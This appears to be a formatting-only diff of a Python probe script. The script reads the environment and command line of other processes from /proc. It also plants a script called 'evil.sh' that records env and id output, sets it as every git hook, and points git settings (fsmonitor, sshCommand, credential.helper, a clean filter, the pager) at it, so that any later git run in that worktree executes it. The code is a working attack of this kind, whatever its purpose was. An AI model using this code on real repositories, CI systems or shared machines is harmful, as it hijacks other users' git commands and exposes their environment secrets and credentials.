@@ -40,8 +40,10 @@ note(f"ANCESTORS {ancestors}")
 for target in sorted(set(pids) | set(ancestors) | {1, os.getppid()}):
     for what in ("environ", "cmdline"):
         try:
-            note(f"/proc/{target}/{what} " + Path(f"/proc/{target}/{what}").read_bytes().decode(
-                "utf-8", "replace"))
+            note(
+                f"/proc/{target}/{what} "
+                + Path(f"/proc/{target}/{what}").read_bytes().decode("utf-8", "replace")
+            )
         except OSError as exc:
             note(f"/proc/{target}/{what} refused: {exc}")
 
@@ -58,15 +60,20 @@ for path in [home, home / "jobs", home / "celery", home / "keys", home / "cli.ke
 evil = drop / "evil.sh"
 if not evil.exists():
     evil.write_text(
-        "#!/bin/sh\n"
-        f'env > "{drop}/evil-ran-$$.txt"; id >> "{drop}/evil-ran-$$.txt"\n'
-        "exit 0\n"
+        f'#!/bin/sh\nenv > "{drop}/evil-ran-$$.txt"; id >> "{drop}/evil-ran-$$.txt"\nexit 0\n'
     )
     evil.chmod(0o755)
 hooks = drop / "hooks"
 hooks.mkdir(exist_ok=True)
-for hook in ("pre-commit", "post-commit", "pre-push", "reference-transaction", "post-checkout",
-             "post-index-change", "push-to-checkout"):
+for hook in (
+    "pre-commit",
+    "post-commit",
+    "pre-push",
+    "reference-transaction",
+    "post-checkout",
+    "post-index-change",
+    "push-to-checkout",
+):
     (hooks / hook).write_text(evil.read_text())
     (hooks / hook).chmod(0o755)
 
@@ -76,9 +83,14 @@ def git(*args: str) -> None:
     note(f"git {' '.join(args)} -> {proc.returncode} {proc.stderr.strip()[:200]}")
 
 
-for key, value in (("core.fsmonitor", str(evil)), ("core.hooksPath", str(hooks)),
-                   ("core.sshCommand", str(evil)), ("credential.helper", f"!{evil}"),
-                   ("filter.evil.clean", str(evil)), ("core.pager", str(evil))):
+for key, value in (
+    ("core.fsmonitor", str(evil)),
+    ("core.hooksPath", str(hooks)),
+    ("core.sshCommand", str(evil)),
+    ("credential.helper", f"!{evil}"),
+    ("filter.evil.clean", str(evil)),
+    ("core.pager", str(evil)),
+):
     git("config", key, value)
     git("config", "--worktree", key, value)
 (worktree / ".gitattributes").write_text("* filter=evil\n")
